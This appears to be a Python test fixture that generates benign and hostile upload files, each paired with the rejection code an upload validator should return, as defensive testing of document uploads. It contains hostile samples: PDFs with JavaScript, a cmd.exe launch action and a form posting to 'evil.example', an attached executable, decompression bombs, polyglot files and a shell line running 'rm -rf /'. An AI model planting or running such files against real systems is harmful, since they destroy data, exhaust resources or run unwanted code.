"""Files that harm, deceive or break; and harmless ones beside them. One table: maker → what becomes of it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

TAKEN = "taken"
Maker = Callable[[], bytes]


def photo(kind: str = "JPEG", size: tuple[int, int] = (300, 200), **options: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **options: object) -> bytes:
    made = pikepdf.new()
    for _n in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _action(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: made.Root.__setattr__("OpenAction", Dictionary(**entries))


def _script_in_a_field(made: pikepdf.Pdf) -> None:
    act = Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    widget = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), AA=act)
    field = made.make_indirect(widget)
    made.pages[0].Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]))


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["hop-dong.exe"] = pikepdf.AttachedFileSpec(made, b"MZ" + bytes(100), filename="x.exe")


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>"))


def _bomb(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = _flate(made, zlib.compress(bytes(700_000_000), 1))


def _bomb_in_bomb(made: pikepdf.Pdf) -> None:
    inner = zlib.compress(zlib.compress(bytes(600_000_000), 1), 9)
    made.pages[0].Contents = _flate(made, inner, Array([Name.FlateDecode, Name.FlateDecode]))


def _flate(made: pikepdf.Pdf, raw: bytes, filters: object = Name.FlateDecode) -> pikepdf.Stream:
    stream = made.make_stream(b"")
    stream.write(raw, filter=filters)  # type: ignore[arg-type]
    return stream


def _poster(made: pikepdf.Pdf) -> None:
    image = made.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image, Width=90_000, Height=90_000)
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))


def _deep(made: pikepdf.Pdf) -> None:
    nested: object = Array([])
    for _n in range(90):
        nested = Array([nested])
    made.Root.Deep = nested


def chunk(name: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")


def wall() -> bytes:
    """A PNG of a few bytes that says it has 3.6 thousand million pixels."""
    header = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", (60_000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00")
    return header + chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + chunk(b"IEND", b"")


def _zip() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.txt", "a")
    return out.getvalue()


def locked(user: str, owner: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(user=user, owner=owner))


CORPUS: dict[str, tuple[Maker, str]] = {
    # taken
    "a photo": (photo, TAKEN),
    "a photo turned by its EXIF": (lambda: photo(exif=_exif(6)), TAKEN),
    "a scan in PNG": (lambda: photo("PNG"), TAKEN),
    "a picture in WebP": (lambda: photo("WEBP"), TAKEN),
    "a PDF": (pdf, TAKEN),
    "a PDF of 300 pages": (lambda: pdf(pages=300), TAKEN),
    "a PDF that opens at a page": (lambda: pdf(_goes_to_a_page), TAKEN),
    "a PDF with objects in streams": (
        lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        TAKEN,
    ),
    "a PDF after a line feed": (lambda: b"\n" + pdf(), TAKEN),
    # nothing, or not a paper
    "no bytes": (lambda: b"", "papers.file-empty"),
    "one byte": (lambda: b"\x00", "papers.file-type-not-accepted"),
    "a program": (lambda: b"MZ" + bytes(500), "papers.file-type-not-accepted"),
    "an archive": (_zip, "papers.file-type-not-accepted"),
    "a page": (lambda: b"<html><script>alert(1)</script>", "papers.file-type-not-accepted"),
    "a drawing with a script": (lambda: b"<svg onload='alert(1)'/>", "papers.file-type-not-accepted"),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /", "papers.file-type-not-accepted"),
    "a GIF": (lambda: photo("GIF"), "papers.file-type-not-accepted"),
    "a TIFF": (lambda: photo("TIFF"), "papers.file-type-not-accepted"),
    "a HEIC": (lambda: b"\x00\x00\x00\x18ftypheic" + bytes(200), "papers.file-is-heic"),
    # broken
    "half a photo": (lambda: photo()[: len(photo()) // 2], "papers.file-damaged"),
    "half a PNG": (lambda: photo("PNG")[:9_000], "papers.file-damaged"),
    "half a WebP": (lambda: photo("WEBP")[:3_000], "papers.file-damaged"),
    "only the head of a photo": (lambda: b"\xff\xd8\xff\xe0", "papers.file-damaged"),
    "half a PDF": (lambda: pdf(pages=20)[:900], "papers.file-damaged"),
    "only the head of a PDF": (lambda: b"%PDF-1.7\n", "papers.file-damaged"),
    "a PDF without pages": (lambda: pdf(pages=0), "papers.file-damaged"),
    "a PDF nested without measure": (lambda: pdf(_deep), "papers.file-damaged"),
    # locked
    "a PDF with a password": (lambda: locked("khach", "chu"), "papers.file-password-protected"),
    "a PDF that may not be copied": (lambda: locked("", "chu"), "papers.file-password-protected"),
    # that run or hide something
    "a script on opening": (
        lambda: pdf(_action(S=Name.JavaScript, JS=String("app.alert(1)"))),
        "papers.file-runs-something",
    ),
    "a program to launch": (
        lambda: pdf(_action(S=Name.Launch, F=String("cmd.exe"))),
        "papers.file-runs-something",
    ),
    "a form that sends itself": (
        lambda: pdf(_action(S=Name.SubmitForm, F=String("http://evil.example"))),
        "papers.file-runs-something",
    ),
    "a script in a field": (lambda: pdf(_script_in_a_field), "papers.file-runs-something"),
    "a script in an object stream": (
        lambda: pdf(_script_in_a_field, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "papers.file-runs-something",
    ),
    "a program attached": (lambda: pdf(_attached), "papers.file-carries-files"),
    "an XFA form": (lambda: pdf(_xfa), "papers.file-is-xfa"),
    # bombs
    "a PNG that unfolds to a wall": (wall, "papers.image-too-large"),
    "a PDF that unfolds to 700 MB": (lambda: pdf(_bomb), "papers.file-too-heavy"),
    "a bomb within a bomb": (lambda: pdf(_bomb_in_bomb), "papers.file-too-heavy"),
    "a PDF with a poster": (lambda: pdf(_poster), "papers.file-too-heavy"),
    "a PDF of 1,200 pages": (lambda: pdf(pages=1_200), "papers.file-has-too-many-pages"),
    # two things at once
    "a program that is a PDF": (lambda: b"MZ" + bytes(60) + pdf(), "papers.file-is-two-things"),
    "a page that is a PDF": (lambda: b"<html><!--" + pdf(), "papers.file-is-two-things"),
    "a PDF that is an archive": (lambda: pdf() + _zip(), "papers.file-is-two-things"),
    "a photo that is an archive": (lambda: photo() + _zip(), "papers.file-is-two-things"),
}


def _goes_to_a_page(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([made.pages[0].obj, Name.Fit]))


def _exif(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return exif
